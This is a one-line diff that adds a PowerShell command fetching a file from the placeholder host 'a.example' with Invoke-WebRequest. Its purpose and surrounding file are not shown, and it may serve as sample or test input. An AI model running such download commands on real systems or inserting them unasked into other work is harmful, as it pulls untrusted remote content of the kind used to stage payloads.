@@ -1,0 +1,1 @@
+powershell -c "iwr \"http://a.example/p/x.txt\""
